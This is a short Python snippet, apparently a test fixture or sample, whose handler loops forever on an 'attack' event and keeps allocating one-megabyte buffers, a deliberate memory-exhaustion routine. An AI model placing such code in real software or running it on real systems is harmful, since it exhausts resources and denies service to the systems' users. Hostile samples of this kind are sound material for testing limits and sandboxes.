"""Allocates memory without end."""

taken = []


def handle(event):
    while event["kind"] == "attack":
        taken.append(bytearray(1 << 20))
